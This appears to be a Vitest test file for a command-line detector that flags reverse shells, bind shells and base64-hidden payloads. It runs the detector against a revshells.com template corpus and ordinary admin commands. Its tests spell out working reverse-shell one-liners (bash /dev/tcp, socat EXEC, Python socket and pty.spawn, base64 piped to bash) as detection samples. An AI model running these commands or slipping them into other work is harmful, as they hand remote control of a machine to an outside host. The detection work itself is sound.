import { readFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { analyzeCommandLine } from './command-line.js';
import { ADMIN_COMMAND_LINES } from './fixtures/admin-command-lines.js';

const here = dirname(fileURLToPath(import.meta.url));
const corpusDir = resolve(process.env.VIGIL_SHARED_DATA ?? resolve(here, '../../../../shared/data'), 'revshell');

interface Template {
  name: string;
  command: string;
  os: string[];
  type: 'reverse' | 'bind';
}

const templates = JSON.parse(readFileSync(resolve(corpusDir, 'commands.json'), 'utf8')) as Template[];
const shells = JSON.parse(readFileSync(resolve(corpusDir, 'shells.json'), 'utf8')) as string[];
const listeners = JSON.parse(readFileSync(resolve(corpusDir, 'listeners.json'), 'utf8')) as { name: string; command: string }[];

/** Deterministic PRNG (mulberry32) so "random" IPs and ports are the same on every run. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function render(command: string, ip: string, port: number, shell: string): string {
  return command.replaceAll('{ip}', ip).replaceAll('{port}', String(port)).replaceAll('{shell}', shell);
}

describe('analyzeCommandLine on the revshells.com corpus', () => {
  const rnd = prng(20241204);
  const randomIp = (): string => [1 + Math.floor(rnd() * 222), Math.floor(rnd() * 256), Math.floor(rnd() * 256), 1 + Math.floor(rnd() * 254)].join('.');
  const randomPort = (): number => 1024 + Math.floor(rnd() * 64000);
  const linuxReverse = templates.filter((t) => t.type === 'reverse' && t.os.includes('linux'));

  it('has the corpus it expects', () => {
    expect(linuxReverse.length).toBe(62);
    expect(shells).toHaveLength(16);
  });

  it('flags every Linux reverse template rendered with every shell', () => {
    const misses: string[] = [];
    let total = 0;
    const verdicts = new Map<string, number>();
    for (const t of linuxReverse) {
      for (const shell of shells) {
        total++;
        const r = analyzeCommandLine(render(t.command, randomIp(), randomPort(), shell));
        verdicts.set(r.verdict, (verdicts.get(r.verdict) ?? 0) + 1);
        if (!r.flagged) misses.push(`${t.name} [${shell}]`);
      }
    }
    console.log(`revshell templates: ${total - misses.length}/${total} flagged; verdicts ${JSON.stringify(Object.fromEntries(verdicts))}`);
    expect(misses).toEqual([]);
  });

  it('calls the Linux reverse templates reverse shells, except the request-driven web shells', () => {
    const webOnly = new Set<string>();
    for (const t of linuxReverse) {
      const r = analyzeCommandLine(render(t.command, '203.0.113.9', 4444, 'bash'));
      if (r.verdict === 'web-command-exec') webOnly.add(t.name);
      else expect({ name: t.name, verdict: r.verdict }).toEqual({ name: t.name, verdict: 'reverse-shell' });
    }
    // These four take commands from HTTP parameters and never open a connection back.
    expect([...webOnly].sort()).toEqual(['P0wny Shell (Webshell)', 'PHP cmd', 'PHP cmd 2', 'PHP cmd small']);
  });

  it('reports the Windows-only reverse templates too (rate logged, not required)', () => {
    const win = templates.filter((t) => t.type === 'reverse' && !t.os.includes('linux'));
    const hits = win.filter((t) => analyzeCommandLine(render(t.command, '198.51.100.7', 9001, 'cmd')).flagged);
    console.log(`windows-only reverse templates flagged: ${hits.length}/${win.length}`);
    expect(win.length).toBeGreaterThan(0);
  });

  it('calls bind templates bind shells, not reverse shells', () => {
    for (const t of templates.filter((x) => x.type === 'bind' && x.os.includes('linux'))) {
      const r = analyzeCommandLine(render(t.command, '0.0.0.0', 5555, 'sh'));
      expect({ name: t.name, verdict: r.verdict }).toEqual({ name: t.name, verdict: 'bind-shell' });
    }
  });

  it('never calls a listener command a reverse shell, and does not flag it', () => {
    for (const l of listeners) {
      const r = analyzeCommandLine(render(l.command, '10.1.2.3', 4444, 'bash').replaceAll('{payload}', 'linux/x64/shell_reverse_tcp').replaceAll('{type}', 'cmd-curl'));
      expect({ name: l.name, flagged: r.flagged }).toEqual({ name: l.name, flagged: false });
      expect(r.verdict === 'listener' || r.verdict === 'benign').toBe(true);
    }
  });
});

describe('analyzeCommandLine on ordinary admin command lines', () => {
  it('flags none of them', () => {
    const flagged = ADMIN_COMMAND_LINES.filter((c) => analyzeCommandLine(c).flagged);
    expect(ADMIN_COMMAND_LINES.length).toBeGreaterThanOrEqual(50);
    expect(flagged).toEqual([]);
  });

  it('calls socat TCP-LISTEN port forwarding a listener', () => {
    expect(analyzeCommandLine('socat TCP-LISTEN:8080,fork,reuseaddr TCP:10.0.0.5:80').verdict).toBe('listener');
  });
});

describe('analyzeCommandLine details', () => {
  it('accepts argv arrays as the kernel passes them', () => {
    const r = analyzeCommandLine(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1']);
    expect(r).toMatchObject({ verdict: 'reverse-shell', suggestedClass: 1 });
    expect(analyzeCommandLine(['socat', 'TCP:10.9.8.7:443', "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"]).suggestedClass).toBe(2);
    expect(analyzeCommandLine(['python3', '-c', 'import os,pty,socket;s=socket.socket();s.connect(("10.0.0.1",9));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")']).suggestedClass).toBe(3);
  });

  it('decodes base64 payloads piped to a shell', () => {
    const payload = Buffer.from('bash -i >& /dev/tcp/192.0.2.10/8443 0>&1').toString('base64');
    const r = analyzeCommandLine(`bash -c 'echo ${payload} | base64 -d | bash'`);
    expect(r.verdict).toBe('reverse-shell');
    expect(r.features).toContain('base64-payload');
    const harmless = Buffer.from('echo this is only a harmless maintenance script').toString('base64');
    expect(analyzeCommandLine(`bash -c 'echo ${harmless} | base64 -d | bash'`).flagged).toBe(false);
  });

  it('decodes base64 payloads inside interpreter code', () => {
    const code = Buffer.from('import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",53));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")').toString('base64');
    expect(analyzeCommandLine(['python3', '-c', `import base64;exec(base64.b64decode("${code}"))`]).verdict).toBe('reverse-shell');
  });

  it('bounds the work on huge input', () => {
    const big = 'A'.repeat(2_000_000);
    expect(analyzeCommandLine(big).verdict).toBe('benign');
  });
});
